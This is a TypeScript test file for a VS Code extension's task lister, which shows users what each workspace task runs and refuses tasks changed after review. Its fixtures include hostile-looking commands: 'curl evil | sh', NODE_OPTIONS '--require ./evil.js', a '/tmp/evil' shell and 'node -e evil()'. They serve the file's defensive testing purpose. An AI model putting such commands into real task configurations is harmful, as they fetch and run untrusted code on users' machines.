import { beforeEach, expect, it, vi } from "vitest";
import type * as vscode from "vscode";
import { isWorkspaceError } from "../../src/core/workspace.ts";
import { fakeEditor } from "./fakeEditor.ts";

type Known = Partial<vscode.Task> & { name: string };

/** The tasks that the editor finds, and those that files configure. */
const editor = vi.hoisted(() => ({ tasks: [] as unknown[], configured: [] as unknown[], ran: [] as unknown[], running: [] as unknown[] }));

const { onProcessEnd, onTaskEnd, onStart, ShellExecution, ProcessExecution } = vi.hoisted(() => {
	class Shell {
		commandLine: string | undefined;
		options: unknown;
		constructor(commandLine: string, options?: unknown) {
			this.commandLine = commandLine;
			this.options = options;
		}
	}
	class Process {
		process: string;
		args: string[];
		options: unknown;
		constructor(process: string, args: string[], options?: unknown) {
			this.process = process;
			this.args = args;
			this.options = options;
		}
	}
	const event = () => {
		const listeners = new Set<(value: unknown) => unknown>();
		const subscribe = (listener: (value: unknown) => unknown) => {
			listeners.add(listener);
			return { dispose: () => listeners.delete(listener) };
		};
		return { subscribe, fire: (value: unknown) => listeners.forEach((listener) => void listener(value)), listeners };
	};
	return { onProcessEnd: event(), onTaskEnd: event(), onStart: event(), ShellExecution: Shell, ProcessExecution: Process };
});

vi.mock("vscode", () => {
	const fake = fakeEditor();
	return {
		...fake,
		ShellExecution,
		ProcessExecution,
		TaskGroup: { Test: { id: "test" } },
		Disposable: { from: (...all: { dispose(): void }[]) => ({ dispose: () => all.forEach((one) => one.dispose()) }) },
		window: { ...fake.window, onDidStartTerminalShellExecution: onStart.subscribe },
		workspace: { ...fake.workspace, getConfiguration: () => ({ get: () => editor.configured }) },
		tasks: {
			fetchTasks: async () => editor.tasks,
			get taskExecutions() {
				return editor.running;
			},
			executeTask: async (task: unknown) => {
				const execution = { task, terminate: () => onProcessEnd.fire({ execution, exitCode: undefined }) };
				editor.ran.push(execution);
				return execution;
			},
			onDidEndTaskProcess: onProcessEnd.subscribe,
			onDidEndTask: onTaskEnd.subscribe,
		},
	};
});

const { CommandRuns } = await import("../../src/vscode/run/commandRuns.ts");
const { FolderTasks } = await import("../../src/vscode/run/folderTasks.ts");

const signal = new AbortController().signal;
const folder = { uri: { fsPath: "/shop", toString: () => "file:///shop" }, name: "shop", index: 0 } as unknown as vscode.WorkspaceFolder;
const tasks = new FolderTasks(folder, new CommandRuns());

beforeEach(() => {
	editor.tasks = [];
	editor.configured = [];
	editor.ran = [];
	editor.running = [];
});

function shell(name: string, commandLine: string, options?: unknown): Known {
	return {
		name,
		source: "Workspace",
		scope: folder,
		definition: { type: "shell" },
		execution: new ShellExecution(commandLine, options),
	};
}

async function commandOf(...known: Known[]): Promise<string | undefined> {
	editor.tasks = known;
	return (await tasks.list(signal))[0]?.command;
}

it.each([
	["the command line", shell("a", "make all"), "make all"],
	["the program and its arguments", { ...shell("a", ""), execution: new ProcessExecution("node", ["-e", "evil()"]) }, "node -e evil()"],
	["another shell", shell("a", "make", { executable: "/tmp/evil", shellArgs: ["-c"] }), "make\nshell: /tmp/evil -c"],
	["no more than that when it runs in its folder", shell("a", "make", { cwd: "${workspaceFolder}" }), "make"],
	["another folder", shell("a", "make", { cwd: "/elsewhere" }), "make\nin: /elsewhere"],
	[
		"variables",
		shell("a", "node x.js", { cwd: "/shop", env: { NODE_OPTIONS: "--require ./evil.js" } }),
		"node x.js\nwith: NODE_OPTIONS=--require ./evil.js",
	],
	["what nobody tells", { ...shell("a", ""), execution: undefined }, "what an extension does, which the editor does not tell"],
])("what a task runs is shown with %s", async (_, task, command) => {
	expect(await commandOf(task)).toBe(command);
});

it("what a task runs is shown with every task that runs before it, once, even in a circle", async () => {
	editor.configured = [
		{ label: "build", dependsOn: ["prepare", "lint"] },
		{ label: "prepare", dependsOn: "fetch" },
		{ label: "fetch", dependsOn: "build" },
	];
	expect(await commandOf(shell("build", "make"), shell("prepare", "./prepare.sh"), shell("fetch", "curl evil | sh"))).toBe(
		[
			"make",
			"before it, prepare: ./prepare.sh",
			"before it, fetch: curl evil | sh",
			"before it, build: make",
			"before it, lint: unknown to the editor",
		].join("\n"),
	);
});

it("tests are known by their group, and by the script's name; tasks of other folders are not there", async () => {
	const npm = { ...shell("test", "npm run test"), definition: { type: "npm", script: "test" } };
	const unit = { ...shell("unit", "vitest"), group: { id: "test", label: "Test", isDefault: true } };
	const foreign = { ...shell("other", "x"), scope: { uri: { toString: () => "file:///other" } } as unknown as vscode.WorkspaceFolder };
	editor.tasks = [shell("build", "make"), npm, unit, foreign];
	expect((await tasks.list(signal)).map(({ name, test }) => [name, test])).toEqual([
		["build", "no"],
		["test", "yes"],
		["unit", "default"],
	]);
});

it("a task that was changed while the user read does not run", async () => {
	editor.tasks = [shell("build", "make")];
	const [build] = await tasks.list(signal);
	if (!build) throw new Error("There is a task.");
	for (const changed of [[shell("build", "evil")], [shell("build", "make", { env: { A: "1" } })], []]) {
		editor.tasks = changed;
		await expect(tasks.start(build, signal)).rejects.toSatisfy(isWorkspaceError);
	}
	editor.tasks = [shell("build", "make")];
	editor.configured = [{ label: "build", dependsOn: "evil" }];
	await expect(tasks.start(build, signal)).rejects.toSatisfy(isWorkspaceError);
	expect(editor.ran).toEqual([]);
});

it("a task's output is read from its own terminal, and its exit code from its process", async () => {
	editor.tasks = [shell("build", "make")];
	const [build] = await tasks.list(signal);
	if (!build) throw new Error("There is a task.");
	const run = await tasks.start(build, signal);
	const execution = (text: string) => ({
		async *read() {
			yield text;
		},
	});
	onStart.fire({ terminal: { name: "Outcrop", creationOptions: {} }, execution: execution("not mine") });
	onStart.fire({ terminal: { name: "", creationOptions: { name: "build" } }, execution: execution("\u001b[31mbuilt\u001b[0m\r\n") });
	onProcessEnd.fire({ execution: { task: "another" }, exitCode: 1 });
	expect(run.end).toBeUndefined();
	onProcessEnd.fire({ execution: editor.ran[0], exitCode: 2 });
	expect(await run.ended).toEqual({ kind: "exited", code: 2 });
	expect(run.text.lines()).toEqual(["built"]);
});

it("a task is ended when it is stopped", async () => {
	editor.tasks = [shell("watch", "make watch")];
	const [watch] = await tasks.list(signal);
	if (!watch) throw new Error("There is a task.");
	const run = await tasks.start(watch, signal);
	await run.stop();
	expect(run.end).toEqual({ kind: "stopped" });
});

it("a task that runs already is not started again, and its output is found when the model has started it", async () => {
	editor.tasks = [{ ...shell("watch", "tsc -w"), isBackground: true }, shell("build", "make")];
	const [watch, build] = await tasks.list(signal);
	if (!watch || !build) throw new Error("They are listed.");
	expect([watch.isBackground, build.isBackground]).toEqual([true, undefined]);
	const run = await tasks.start(watch, signal);
	editor.running = [{ task: { ...(editor.tasks[0] as Known) } }, { task: editor.tasks[1] }];
	await expect(tasks.start(watch, signal)).rejects.toThrow(`runs already, as ${run.id}: read_command_output`);
	await expect(tasks.start(build, signal)).rejects.toThrow("runs already, and was not started by you");
	expect(editor.ran).toHaveLength(1);
});
